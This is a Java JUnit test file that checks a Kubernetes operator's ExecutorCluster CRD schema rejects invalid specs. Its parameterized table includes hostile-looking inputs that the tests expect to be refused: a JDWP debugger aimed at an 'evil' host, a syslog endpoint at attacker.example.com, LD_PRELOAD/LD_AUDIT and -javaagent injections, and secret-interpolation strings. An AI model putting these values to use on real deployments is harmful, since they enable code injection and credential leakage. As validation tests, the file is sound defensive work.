package io.drover.operator.api;

import io.drover.operator.api.v1alpha1.DatabaseSpec;
import io.drover.operator.api.v1alpha1.Engine;
import io.drover.operator.api.v1alpha1.ExecutorClusterSpec;
import io.drover.contract.SettingDefaults;
import io.drover.operator.api.v1alpha1.ExecutorCluster;
import io.drover.operator.api.v1alpha1.LockMode;
import io.drover.operator.resources.ExecutorEnvironment;
import io.drover.operator.resources.ExecutorStatefulSet;
import io.drover.operator.testing.Clusters;
import io.drover.operator.testing.TestCluster;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.fabric8.kubernetes.client.KubernetesClientException;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * The committed CRD (crds/) installed in a real kube-apiserver: invalid ExecutorClusters are
 * refused by the API server itself, with a message naming the field; defaults are applied.
 */
class ExecutorClusterSchemaTest {
    static KubernetesClient client;
    static String namespace;

    @BeforeAll
    static void cluster() {
        client = TestCluster.get().client();
        namespace = TestCluster.get().newNamespace("schema");
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "|", textBlock = """
            threads: 0                                  | spec.threads: Invalid value: 0: spec.threads in body should be greater than or equal to 1
            replicas: -1                                | spec.replicas: Invalid value: -1: spec.replicas in body should be greater than or equal to 0
            lockMode: Fastest                           | spec.lockMode: Unsupported value: "Fastest": supported values: "Global", "Optimistic", "SkipLocked"
            queueSize: 100\\nacquirePageSize: 200        | spec.acquirePageSize: Invalid value: "object": acquirePageSize must not exceed queueSize
            lockExpiry: 2s                              | spec.lockExpiry: Invalid value: "string": lockExpiry must be at least 4s
            lockExpiry: "60"                            | spec.lockExpiry: Invalid value: "60": spec.lockExpiry in body should match
            shutdownGracePeriod: 90s\\nterminationGracePeriodSeconds: 60 | spec.terminationGracePeriodSeconds: Invalid value: "object": terminationGracePeriodSeconds must exceed the shutdown grace period
            shutdownGracePeriod: 55s\\nterminationGracePeriodSeconds: 60 | spec.terminationGracePeriodSeconds: Invalid value: "object": terminationGracePeriodSeconds must exceed the shutdown grace period
            shutdownGracePeriod: 30.9s\\nterminationGracePeriodSeconds: 40 | spec.terminationGracePeriodSeconds: Invalid value: "object": terminationGracePeriodSeconds must exceed the shutdown grace period
            maxJobDuration: 10m0.5s\\nterminationGracePeriodSeconds: 620 | spec.terminationGracePeriodSeconds: Invalid value: "object": terminationGracePeriodSeconds must exceed the shutdown grace period
            terminationGracePeriodSeconds: 35           | spec.terminationGracePeriodSeconds: Invalid value: "object": terminationGracePeriodSeconds must exceed the shutdown grace period (shutdownGracePeriod; else maxJobDuration plus 10s; else 30s) by at least 10s
            terminationGracePeriodSeconds: 600          | spec.terminationGracePeriodSeconds: Invalid value: "object": terminationGracePeriodSeconds must exceed the longest job timeout (jobTimeout, executor default 15m, and every jobTimeouts entry) by at least 20s, or every scale-down, roll and drain cuts the jobs that run longer
            jobTimeout: 1m\\nterminationGracePeriodSeconds: 79 | spec.terminationGracePeriodSeconds: Invalid value: "object": terminationGracePeriodSeconds must exceed the longest job timeout
            jobTimeout: 1m\\njobTimeouts: {http: 10s, report: 5m}\\nterminationGracePeriodSeconds: 300 | spec.terminationGracePeriodSeconds: Invalid value: "object": terminationGracePeriodSeconds must exceed the longest job timeout
            retryBackoff: 20m\\nretryBackoffMax: 1m      | spec.retryBackoff: Invalid value: "object": retryBackoff must not exceed retryBackoffMax
            schema: Jobs-Table                          | spec.schema: Invalid value: "Jobs-Table": spec.schema in body should match
            autoscaling: {minReplicas: 5, maxReplicas: 2} | spec.autoscaling.minReplicas: Invalid value: "object": autoscaling.minReplicas must not exceed autoscaling.maxReplicas
            autoscaling: {targetBacklogPerNode: 0}      | spec.autoscaling.targetBacklogPerNode: Invalid value: 0
            disruptionBudget: {maxUnavailable: -1}      | spec.disruptionBudget.maxUnavailable: Invalid value: -1
            imagePullPolicy: Sometimes                  | spec.imagePullPolicy: Invalid value: "Sometimes"
            terminationGracePeriodSeconds: 0            | spec.terminationGracePeriodSeconds: Invalid value: 0
            jobTimeout: forever                         | spec.jobTimeout: Invalid value: "forever": spec.jobTimeout in body should match
            jobTimeouts: {report: 2 hours}              | spec.jobTimeouts.report: Invalid value: "2 hours": spec.jobTimeouts.report in body should match
            maxCrashes: 0                               | spec.maxCrashes: Invalid value: 0: spec.maxCrashes in body should be greater than or equal to 1
            startupTimeout: "5"                         | spec.startupTimeout: Invalid value: "5": spec.startupTimeout in body should match
            maxJobDuration: 10m\\nshutdownGracePeriod: 5m | spec.shutdownGracePeriod: Invalid value: "object": shutdownGracePeriod must be at least maxJobDuration
            maxJobDuration: 10m\\nterminationGracePeriodSeconds: 300 | spec.terminationGracePeriodSeconds: Invalid value: "object": terminationGracePeriodSeconds must exceed the shutdown grace period
            maxJobDuration: 10m\\nterminationGracePeriodSeconds: 615 | spec.terminationGracePeriodSeconds: Invalid value: "object": terminationGracePeriodSeconds must exceed the shutdown grace period
            maxJobDuration: 10m\\njobTimeout: 20m        | spec.jobTimeout: Invalid value: "object": jobTimeout must not exceed maxJobDuration
            env: [{name: X, value: a, valueFrom: {secretKeyRef: {name: hooks, key: url}}}] | spec.env[0].valueFrom: Invalid value: "object": give either value or valueFrom.secretKeyRef, not both
            env: [{name: X, valueFrom: {configMapKeyRef: {name: settings, key: url}}}] | spec.env[0].valueFrom.secretKeyRef: Required value
            env: [{name: X, valueFrom: {secretKeyRef: {name: hooks}}}] | spec.env[0].valueFrom.secretKeyRef.key: Required value
            env: [{name: DROVER_API_TOKEN, valueFrom: {secretKeyRef: {name: hooks, key: url}}}] | spec.env[0].name: Invalid value: "object": this variable is set by the operator
            env: [{name: DROVER_API_TOKEN, value: known}] | spec.env[0].name: Invalid value: "object": this variable is set by the operator
            env: [{name: drover.api.readToken, value: known}] | spec.env[0].name: Invalid value: "object": this variable is set by the operator
            env: [{name: QUARKUS_DATASOURCE_JDBC_ADDITIONAL_JDBC_PROPERTIES_SSLFACTORY, value: x}] | spec.env[0].name: Invalid value: "object": this variable is set by the operator
            env: [{name: X, value: a}, {name: drover.threads, value: "9"}] | spec.env[1].name: Invalid value: "object": this variable is set by the operator
            env: [{name: Quarkus_Datasource_Jdbc_Url, value: "jdbc:postgresql://elsewhere/x"}] | spec.env[0].name: Invalid value: "object": this variable is set by the operator
            env: [{name: JAVA_TOOL_OPTIONS, value: "-javaagent:/tmp/a.jar"}] | spec.env[0].name: Invalid value: "object": this variable is set by the operator
            env: [{name: "bad name", value: x}]          | spec.env[0].name: Invalid value: "bad name"
            jvmOptions: -javaagent:/opt/agent.jar       | spec.jvmOptions: Invalid value: "string": jvmOptions may hold only
            jvmOptions: -Xss512k -XX:MaxRAMPercentage=70 | spec.jvmOptions: Invalid value: "string": jvmOptions may not set -XX:MaxRAMPercentage or -XX:ExitOnOutOfMemoryError: the executor image's entrypoint sets them
            jvmOptions: -XX:-ExitOnOutOfMemoryError     | spec.jvmOptions: Invalid value: "string": jvmOptions may not set -XX:MaxRAMPercentage
            jvmOptions: -Xmx1g -XX:OnOutOfMemoryError="sh -c x" | spec.jvmOptions: Invalid value: "string": jvmOptions may hold only
            jvmOptions: -Xmx1g "-Ddrover.api.token=known" | spec.jvmOptions: Invalid value: "string": jvmOptions may hold only
            jvmOptions: -Dquarkus.datasource.jdbc.url=x | spec.jvmOptions: Invalid value: "string": jvmOptions may hold only
            jvmOptions: -Xmx0                           | spec.jvmOptions: Invalid value: "string": jvmOptions may hold only heap and stack sizes (-Xms, -Xmx, -Xmn, -Xss, each a size that starts with 1-9
            jvmOptions: -Xms512m -Xss0k                 | spec.jvmOptions: Invalid value: "string": jvmOptions may hold only
            database: {host: db, name: jobs, sslMode: verify-full, credentialsSecret: {name: s}} | spec.database.caBundle: Invalid value: "object": sslMode verify-ca and verify-full need caBundle
            database: {host: db, name: jobs, sslMode: verify-ca, credentialsSecret: {name: s}} | spec.database.caBundle: Invalid value: "object": sslMode verify-ca and verify-full need caBundle
            database: {host: db, name: jobs, caBundle: {configMap: a, secret: b}, credentialsSecret: {name: s}} | spec.database.caBundle: Invalid value: "object": give exactly one of configMap and secret
            database: {host: db, name: jobs, caBundle: {key: ca.crt}, credentialsSecret: {name: s}} | spec.database.caBundle: Invalid value: "object": give exactly one of configMap and secret
            networkPolicy: {enabled: sometimes}         | spec.networkPolicy.enabled: Invalid value: "string"
            globalLockPollInterval: 0s                  | spec.globalLockPollInterval: Invalid value: "string": globalLockPollInterval must be at least 1ms
            acquireInterval: 0.5ms                      | spec.acquireInterval: Invalid value: "string": acquireInterval must be at least 1ms
            retryBackoff: 0ms                           | spec.retryBackoff: Invalid value: "string": retryBackoff must be at least 1ms
            shutdownGracePeriod: 500ms                  | spec.shutdownGracePeriod: Invalid value: "string": shutdownGracePeriod must be at least 1s
            jobTimeouts: {report: 0s}                   | spec.jobTimeouts: Invalid value: "object": every jobTimeouts entry must be at least 1ms
            autoscaling: {pollingInterval: 500ms}       | spec.autoscaling.pollingInterval: Invalid value: "string": autoscaling.pollingInterval must be at least 1s
            autoscaling: {pollingInterval: 1500ms}      | spec.autoscaling.pollingInterval: Invalid value: "string": autoscaling.pollingInterval must be whole seconds
            autoscaling: {cooldownPeriod: 90.5s}        | spec.autoscaling.cooldownPeriod: Invalid value: "string": autoscaling.cooldownPeriod must be whole seconds
            autoscaling: {scaleDownStabilizationWindow: 1m1ms} | spec.autoscaling.scaleDownStabilizationWindow: Invalid value: "string": autoscaling.scaleDownStabilizationWindow must be whole seconds
            replicas: 5000                              | spec.replicas: Invalid value: 5000: spec.replicas in body should be less than or equal to 1000
            queueSize: 2000\\nautoscaling: {enabled: true, targetBacklogPerNode: 1000} | spec.queueSize: Invalid value: "object": queueSize must not exceed autoscaling.targetBacklogPerNode
            autoscaling: {enabled: true}\\nqueueSize: 1025 | spec.queueSize: Invalid value: "object": queueSize must not exceed autoscaling.targetBacklogPerNode
            env: [{value: x}]                           | spec.env[0].name: Required value
            env: [{name: DROVER_NODENAME, value: node-0}] | spec.env[0].name: Invalid value: "object": this variable is set by the operator
            env: [{name: HOSTNAME, value: node-0}]      | spec.env[0].name: Invalid value: "object": this variable is set by the operator
            env: [{name: _PROD_DROVER_API_TOKEN, value: known}] | spec.env[0].name: Invalid value: "object": this variable is set by the operator
            env: [{name: QUARKUS_PROFILE, value: other}] | spec.env[0].name: Invalid value: "object": this variable is set by the operator
            env: [{name: SMALLRYE_CONFIG_LOCATIONS, value: /tmp/x}] | spec.env[0].name: Invalid value: "object": this variable is set by the operator
            env: [{name: QUARKUS_CONFIG_LOG_VALUES, value: "true"}] | spec.env[0].name: Invalid value: "object": this variable is set by the operator
            env: [{name: quarkus.config.profile.parent, value: test}] | spec.env[0].name: Invalid value: "object": this variable is set by the operator
            jvmOptions: -agent\"\"lib:jdwp=transport=dt_socket,address=evil:5432 | spec.jvmOptions: Invalid value: "string": jvmOptions may hold only
            jvmOptions: -D%prod.drover.api.token=known  | spec.jvmOptions: Invalid value: "string": jvmOptions may hold only
            jvmOptions: -Dcom.sun.management.jmxremote.port=9010 | spec.jvmOptions: Invalid value: "string": jvmOptions may hold only
            jvmOptions: -Xmx1g -XX:+StartAttachListener | spec.jvmOptions: Invalid value: "string": jvmOptions may hold only
            jvmOptions: -XX:+UnlockExperimentalVMOptions -XX:+EnableJVMCI -XX:+UseJVMCINativeLibrary -XX:JVMCILibPath=/etc/drover/database-ca | spec.jvmOptions: Invalid value: "string": jvmOptions may hold only
            jvmOptions: -Xmx1g $(QUARKUS_DATASOURCE_PASSWORD) | spec.jvmOptions: Invalid value: "string": jvmOptions may hold only
            engine: Camunda                             | spec.engine: Unsupported value: "Camunda": supported values: "Drover", "Flowable"
            engine: Flowable                            | spec.lockMode: Invalid value: "object": lockMode SkipLocked is not available with engine Flowable
            engine: Flowable\\nlockMode: SkipLocked      | spec.lockMode: Invalid value: "object": lockMode SkipLocked is not available with engine Flowable
            engine: Flowable\\nlockMode: Global\\nmaxCrashes: 2 | spec.maxCrashes: Invalid value: "object": not available with engine Flowable, which has no equivalent: maxCrashes
            engine: Flowable\\nlockMode: Global\\nvirtualThreads: true | spec.virtualThreads: Invalid value: "object": not available with engine Flowable
            engine: Flowable\\nlockMode: Global\\njobTimeout: 1m | spec.jobTimeout: Invalid value: "object": not available with engine Flowable
            engine: Flowable\\nlockMode: Global\\njobTimeouts: {a: 1m} | spec.jobTimeouts: Invalid value: "object": not available with engine Flowable
            engine: Flowable\\nlockMode: Global\\ncompletionBatchSize: 10 | spec.completionBatchSize: Invalid value: "object": not available with engine Flowable
            engine: Flowable\\nlockMode: Global\\nretryBackoffMax: 1m | spec.retryBackoffMax: Invalid value: "object": not available with engine Flowable
            engine: Flowable\\nlockMode: Optimistic\\nretryBackoff: 500ms | spec.retryBackoff: Invalid value: "object": retryBackoff must be at least 1s with engine Flowable
            engine: Flowable\\nlockMode: Global\\nretryBackoff: 596524h | spec.retryBackoff: Invalid value: "object": retryBackoff must be at most 596523h with engine Flowable
            engine: Flowable\\nlockMode: Global\\nretryBackoff: 1500ms | spec.retryBackoff: Invalid value: "object": retryBackoff must be whole seconds with engine Flowable
            engine: Flowable\\nlockMode: Global\\nshutdownGracePeriod: 10500ms | spec.shutdownGracePeriod: Invalid value: "object": shutdownGracePeriod must be whole seconds with engine Flowable
            engine: Flowable\\nlockMode: Global\\nthreads: 16\\ndatabase: {host: db, name: jobs, maxPoolSize: 20, credentialsSecret: {name: s}} | spec.database.maxPoolSize: Invalid value: "object": database.maxPoolSize must be at least threads + 9 with engine Flowable
            engine: Flowable\\nlockMode: Global\\napiTokenSecret: {name: t, key: token} | spec.apiTokenSecret: Invalid value: "object": not available with engine Flowable
            env: [{name: LD_AUDIT, value: /etc/drover/database-ca/ca.crt}] | spec.env[0].name: Invalid value: "object": this variable is set by the operator
            env: [{name: ld_preload, value: /tmp/x.so}]  | spec.env[0].name: Invalid value: "object": this variable is set by the operator
            env: [{name: drover.handlersDir, value: /tmp}] | spec.env[0].name: Invalid value: "object": this variable is set by the operator
            env: [{name: QUARKUS_HTTP_ACCESS_LOG_PATTERN, value: "%{i,Authorization}"}] | spec.env[0].name: Invalid value: "object": this variable would have the executor log what callers send
            env: [{name: quarkus.http.access-log.enabled, value: "true"}] | spec.env[0].name: Invalid value: "object": this variable would have the executor log what callers send
            env: [{name: QUARKUS_LOG_SYSLOG_ENDPOINT, value: "attacker.example.com:53"}] | spec.env[0].name: Invalid value: "object": this variable would have the executor log what callers send
            env: [{name: QUARKUS_LOG_SOCKET_ENABLED, value: "true"}] | spec.env[0].name: Invalid value: "object": this variable would have the executor log what callers send
            env: [{name: QUARKUS_LOG_HANDLER_SYSLOG__X__ENDPOINT, value: "a:53"}] | spec.env[0].name: Invalid value: "object": this variable would have the executor log what callers send
            env: [{name: DROVER_HTTP_URL, value: "https://x/?t=${drover.api.token}"}] | spec.env[0].value: Invalid value: "object": values may not contain '${'
            env: [{name: JDK_AOT_VM_OPTIONS, value: "-XX:OnError=x"}] | spec.env[0].name: Invalid value: "object": this variable is set by the operator
            jvmOptions: -XX:AOTCacheOutput=/tmp/a.aot   | spec.jvmOptions: Invalid value: "string": jvmOptions may hold only
            jvmOptions: -Xmx1g -XX:SharedArchiveFile=/etc/drover/database-ca/ca.crt | spec.jvmOptions: Invalid value: "string": jvmOptions may hold only
            retryBackoff: 15m                           | spec.retryBackoff: Invalid value: "object": retryBackoff must not exceed retryBackoffMax (executor default 10m)
            lockExpiry: 25h                             | spec.lockExpiry: Invalid value: "string": lockExpiry must be at most 24h
            globalLockMaxHold: 48h                      | spec.globalLockMaxHold: Invalid value: "string": globalLockMaxHold must be at most 24h
            maxJobDuration: 10m\\njobTimeouts: {report: 2h, http: 30s} | spec.jobTimeouts: Invalid value: "object": every jobTimeouts entry must be at most maxJobDuration: a job may run until its timeout, and a stopping node waits only maxJobDuration
            autoscaling: {scaleDownStabilizationWindow: 2h} | spec.autoscaling.scaleDownStabilizationWindow: Invalid value: "string": autoscaling.scaleDownStabilizationWindow must be at most 1h
            autoscaling: {pollingInterval: 2h}          | spec.autoscaling.pollingInterval: Invalid value: "string": autoscaling.pollingInterval must be at most 1h
            autoscaling: {cooldownPeriod: 25h}          | spec.autoscaling.cooldownPeriod: Invalid value: "string": autoscaling.cooldownPeriod must be at most 24h
            database: {host: "db.example.com:5433", name: jobs, credentialsSecret: {name: s}} | spec.database.host: Invalid value: "string": database.host takes a host name or an IP address without a port
            database: {host: "10.0.0.5:5432", name: jobs, credentialsSecret: {name: s}} | spec.database.host: Invalid value: "string": database.host takes a host name or an IP address without a port
            database: {host: 999.1.1.1, name: jobs, credentialsSecret: {name: s}} | spec.database.host: Invalid value: "string": database.host is digits and dots but not an IPv4 address
            database: {host: "a:b:c", name: jobs, credentialsSecret: {name: s}} | spec.database.host: Invalid value: "string": database.host takes a host name or an IP address without a port
            database: {host: "10.0.0.1::5432", name: jobs, credentialsSecret: {name: s}} | spec.database.host: Invalid value: "string": database.host takes a host name or an IP address without a port
            placement: {instanceTypes: ["c5 large"]}    | spec.placement.instanceTypes[0]: Invalid value: "c5 large": spec.placement.instanceTypes[0] in body should match
            placement: {instanceTypes: [c5.large, "-c5"]} | spec.placement.instanceTypes[1]: Invalid value: "-c5": spec.placement.instanceTypes[1] in body should match
            database: {host: db, name: jobs, credentialsSecret: {name: My_Secret}} | spec.database.credentialsSecret.name: Invalid value: "My_Secret": spec.database.credentialsSecret.name in body should match
            database: {host: db, name: jobs, credentialsSecret: {name: creds/x}} | spec.database.credentialsSecret.name: Invalid value: "creds/x": spec.database.credentialsSecret.name in body should match
            database: {host: db, name: jobs, credentialsSecret: {name: s, passwordKey: "pass word"}} | spec.database.credentialsSecret.passwordKey: Invalid value: "pass word": spec.database.credentialsSecret.passwordKey in body should match
            database: {host: db, name: jobs, sslMode: verify-full, caBundle: {configMap: RDS_CA}, credentialsSecret: {name: s}} | spec.database.caBundle.configMap: Invalid value: "RDS_CA": spec.database.caBundle.configMap in body should match
            apiTokenSecret: {name: api/token, key: token} | spec.apiTokenSecret.name: Invalid value: "api/token": spec.apiTokenSecret.name in body should match
            resources: {limits: {memory: 2 GB}}          | spec.resources.limits.memory: Invalid value: "2 GB": spec.resources.limits.memory in body should match
            resources: {requests: {cpu: lots}}          | spec.resources.requests.cpu: Invalid value: "lots": spec.resources.requests.cpu in body should match
            resources: {requests: {cpu: "-1"}}          | spec.resources.requests.cpu: Invalid value: "-1": spec.resources.requests.cpu in body should match
            resources: {requests: {cpu: -2}}            | spec.resources.requests.cpu: Invalid value: -2: spec.resources.requests.cpu in body should be greater than or equal to 0
            resources: {requests: {memory: 8Gi}, limits: {memory: 4Gi}} | spec.resources.requests: Invalid value: "object": resources.requests must not exceed resources.limits for the same resource
            resources: {requests: {cpu: 1500m, memory: 1Gi}, limits: {cpu: 1}} | spec.resources.requests: Invalid value: "object": resources.requests must not exceed resources.limits for the same resource
            resources: {requests: {memory: 1Gi, hugepages-2Mi: 512Mi}, limits: {memory: 1Gi, hugepages-2Mi: 1Gi}} | spec.resources.requests: Invalid value: "object": resources.requests of hugepages and extended resources
            resources: {requests: {cpu: 1, example.com/gpu: 1}} | spec.resources.requests: Invalid value: "object": resources.requests of hugepages and extended resources
            resources: {limits: {example.com/gpu: 500m}} | spec.resources.limits: Invalid value: "object": resources.limits of extended resources (a name with a '/', e.g. example.com/gpu) must be whole numbers
            resources: {requests: {example.com/gpu: "1.5"}, limits: {example.com/gpu: "1.5"}} | spec.resources.requests: Invalid value: "object": resources.requests of extended resources (a name with a '/', e.g. example.com/gpu) must be whole numbers
            resources: {requests: {cpu: 0.5}}           | spec.resources.requests.cpu: Invalid value: "number": spec.resources.requests.cpu in body must be of type integer,string
            resources: {limits: {memory: 1e1.5}}        | spec.resources.limits.memory: Invalid value: "1e1.5": spec.resources.limits.memory in body should match
            resources: {requests: {memory: "1e99999999999"}, limits: {memory: 1Gi}} | spec.resources.requests.memory: Invalid value: "1e99999999999": spec.resources.requests.memory in body should match
            networkPolicy: {from: [{podSelector: {}}, {}]} | spec.networkPolicy.from[1]: Invalid value: "object": a peer needs podSelector, namespaceSelector or ipBlock
            networkPolicy: {from: [{ipBlock: {cidr: 10.0.0.0/33}}]} | spec.networkPolicy.from[0].ipBlock.cidr: Invalid value: "string": ipBlock.cidr must be a CIDR such as 10.0.0.0/16
            networkPolicy: {from: [{ipBlock: {cidr: db.example.com}}]} | spec.networkPolicy.from[0].ipBlock.cidr: Invalid value: "string": ipBlock.cidr must be a CIDR
            networkPolicy: {from: [{ipBlock: {except: [10.0.0.0/24]}}]} | spec.networkPolicy.from[0].ipBlock.cidr: Required value
            networkPolicy: {from: [{ipBlock: {cidr: 10.0.0.0/16}, podSelector: {}}]} | spec.networkPolicy.from[0].ipBlock: Invalid value: "object": ipBlock cannot be given with podSelector or namespaceSelector
            networkPolicy: {from: [{ipBlock: {cidr: 10.0.0.0/16, except: [10.1.0.0/24]}}]} | spec.networkPolicy.from[0].ipBlock.except: Invalid value: "object": every ipBlock.except entry must be a CIDR strictly inside ipBlock.cidr
            networkPolicy: {from: [{ipBlock: {cidr: 10.0.0.0/16, except: [10.0.0.0/16]}}]} | spec.networkPolicy.from[0].ipBlock.except: Invalid value: "object": every ipBlock.except entry must be a CIDR strictly inside
            networkPolicy: {from: [{podSelector: {matchExpressions: [{key: app, operator: Bogus}]}}]} | spec.networkPolicy.from[0].podSelector.matchExpressions[0].operator: Unsupported value: "Bogus"
            networkPolicy: {from: [{namespaceSelector: {matchExpressions: [{key: team, operator: In}]}}]} | spec.networkPolicy.from[0].namespaceSelector.matchExpressions[0].values: Invalid value: "object": operators In and NotIn need values
            networkPolicy: {from: [{podSelector: {matchLabels: {app: "a b"}}}]} | spec.networkPolicy.from[0].podSelector.matchLabels.app: Invalid value: "a b"
            networkPolicy: {from: [{podSelector: {matchLabels: {"a b": x}}}]} | spec.networkPolicy.from[0].podSelector.matchLabels: Invalid value: "object": a label key is a name of at most 63
            networkPolicy: {from: [{namespaceSelector: {matchExpressions: [{key: "-team", operator: Exists}]}}]} | spec.networkPolicy.from[0].namespaceSelector.matchExpressions[0].key: Invalid value: "-team"
            networkPolicy: {from: [{podSelector: {matchLabels: {aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/x: y}}}]} | spec.networkPolicy.from[0].podSelector.matchLabels: Invalid value: "object": a label key is a name of at most 63
            networkPolicy: {egress: [{to: [{}]}]}       | spec.networkPolicy.egress[0].to[0]: Invalid value: "object": a peer needs podSelector, namespaceSelector or ipBlock
            networkPolicy: {egress: [{ports: [{port: 70000}]}]} | spec.networkPolicy.egress[0].ports[0].port: Invalid value: "": port must be a number from 1 to 65535
            networkPolicy: {egress: [{ports: [{port: Not_A_Name}]}]} | spec.networkPolicy.egress[0].ports[0].port: Invalid value: "": port must be a number from 1 to 65535
            networkPolicy: {egress: [{ports: [{port: https, endPort: 500}]}]} | spec.networkPolicy.egress[0].ports[0].endPort: Invalid value: "object": endPort needs a numeric port
            networkPolicy: {egress: [{ports: [{port: 443, endPort: 80}]}]} | spec.networkPolicy.egress[0].ports[0].endPort: Invalid value: "object": endPort needs a numeric port, and must not be below it
            networkPolicy: {egress: [{ports: [{protocol: ICMP}]}]} | spec.networkPolicy.egress[0].ports[0].protocol: Unsupported value: "ICMP"
            image: " localhost/drover-executor:0.1.0"   | spec.image: Invalid value: "string": image must not begin or end with whitespace
            image: "localhost/drover-executor:0.1.0\\t" | spec.image: Invalid value: "string": image must not begin or end with whitespace
            image: ""                                   | spec.image: Invalid value: "": spec.image in body should be at least 1 chars long
            lockExpiry: 24h0.0000000006s                | spec.lockExpiry: Invalid value: "24h0.0000000006s": spec.lockExpiry in body should match
            acquireInterval: 1.0000005ms                | spec.acquireInterval: Invalid value: "1.0000005ms": spec.acquireInterval in body should match
            jobTimeouts: {report: 1.000000000001h}      | spec.jobTimeouts.report: Invalid value: "1.000000000001h": spec.jobTimeouts.report in body should match
            lockExpiry: 24h0.000000001s                 | spec.lockExpiry: Invalid value: "string": lockExpiry must be at most 24h
            acquireInterval: 25h                        | spec.acquireInterval: Invalid value: "string": acquireInterval must be at most 24h
            startupTimeout: 2562047h47m                 | spec.startupTimeout: Invalid value: "string": startupTimeout must be at most 2562047h
            globalLockWaitTime: 24h1ms                  | spec.globalLockWaitTime: Invalid value: "string": globalLockWaitTime must be at most 24h
            globalLockPollInterval: 2562047h1s          | spec.globalLockPollInterval: Invalid value: "string": globalLockPollInterval must be at most 24h
            retryBackoff: 2562047h1s\\nretryBackoffMax: 2562047h | spec.retryBackoff: Invalid value: "string": retryBackoff must be at most 2562047h
            retryBackoffMax: 2562047h1s                 | spec.retryBackoffMax: Invalid value: "string": retryBackoffMax must be at most 2562047h
            shutdownGracePeriod: 2562047h1s             | spec.shutdownGracePeriod: Invalid value: "string": shutdownGracePeriod must be at most 2562047h
            jobTimeout: 2562047h1s                      | spec.jobTimeout: Invalid value: "string": jobTimeout must be at most 2562047h
            jobTimeouts: {report: 2562047h0.001s}       | spec.jobTimeouts: Invalid value: "object": every jobTimeouts entry must be at most 2562047h
            maxJobDuration: 2562047h                    | spec.maxJobDuration: Invalid value: "string": maxJobDuration must be at most 2562047h less 10s: shutdownGracePeriod defaults to maxJobDuration plus 10s
            resources: {requests: {cpus: 2}}            | spec.resources.requests: Invalid value: "object": every resources.requests name must be cpu, memory, ephemeral-storage, hugepages-<page size> (e.g. hugepages-2Mi) or an extended resource named with a domain (e.g. nvidia.com/gpu)
            resources: {limits: {pods: 1}}              | spec.resources.limits: Invalid value: "object": every resources.limits name must be cpu, memory, ephemeral-storage
            resources: {requests: {Example.com/gpu: 1}, limits: {Example.com/gpu: 1}} | spec.resources.requests: Invalid value: "object": every resources.requests name must be
            resources: {requests: {requests.example.com/gpu: 1}, limits: {requests.example.com/gpu: 1}} | spec.resources.limits: Invalid value: "object": every resources.limits name must be
            resources: {claims: [{name: gpu}]}          | spec.resources.claims: Invalid value: "object": resources.claims is not supported
            resources: {requests: {cpu: 1, hugepages-2Mi: 3Mi}, limits: {hugepages-2Mi: 3Mi}} | spec.resources.limits: Invalid value: "object": resources.limits of hugepages must be named hugepages-<page size> (e.g. hugepages-2Mi, hugepages-1Gi) and be whole multiples of the page size
            resources: {limits: {cpu: 1, hugepages-two: 2}} | spec.resources.limits: Invalid value: "object": resources.limits of hugepages must be named hugepages-<page size>
            resources: {requests: {hugepages-2Mi: 2Mi}, limits: {hugepages-2Mi: 2Mi}} | spec.resources: Invalid value: "object": resources with hugepages must also give cpu or memory
            placement: {tolerations: [{key: a, operator: Exists, effect: NoScheduleX}]} | spec.placement.tolerations[0].effect: Unsupported value: "NoScheduleX": supported values: "", "NoSchedule", "PreferNoSchedule", "NoExecute"
            placement: {tolerations: [{key: a, operator: Gt, value: "5"}]} | spec.placement.tolerations[0].operator: Unsupported value: "Gt": supported values: "", "Equal", "Exists"
            placement: {tolerations: [{effect: NoSchedule}]} | spec.placement.tolerations[0].operator: Invalid value: "object": a toleration without a key must have operator Exists
            placement: {tolerations: [{key: dedicated, operator: Exists, value: drover}]} | spec.placement.tolerations[0].value: Invalid value: "object": a toleration with operator Exists takes no value
            placement: {tolerations: [{key: dedicated, value: "drover nodes"}]} | spec.placement.tolerations[0].value: Invalid value: "drover nodes": spec.placement.tolerations[0].value in body should match
            placement: {tolerations: [{key: "bad key", operator: Exists}]} | spec.placement.tolerations[0].key: Invalid value: "bad key": spec.placement.tolerations[0].key in body should match
            placement: {tolerations: [{key: node.kubernetes.io/unreachable, operator: Exists, tolerationSeconds: 60}]} | spec.placement.tolerations[0].effect: Invalid value: "object": tolerationSeconds needs effect NoExecute
            placement: {nodeSelector: {"bad key!": x}}  | spec.placement.nodeSelector: Invalid value: "object": a label key is a name of at most 63
            placement: {nodeSelector: {disktype: "solid state"}} | spec.placement.nodeSelector.disktype: Invalid value: "solid state": spec.placement.nodeSelector.disktype in body should match
            placement: {affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: []}}}} | spec.placement.affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution.nodeSelectorTerms: Invalid value: 0: spec.placement.affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution.nodeSelectorTerms in body should have at least 1 items
            placement: {affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {}}}} | spec.placement.affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution.nodeSelectorTerms: Required value
            placement: {affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: [{matchExpressions: [{key: type, operator: NotEquals, values: [kwok]}]}]}}}} | spec.placement.affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution.nodeSelectorTerms[0].matchExpressions[0].operator: Unsupported value: "NotEquals": supported values: "In", "NotIn", "Exists", "DoesNotExist", "Gt", "Lt"
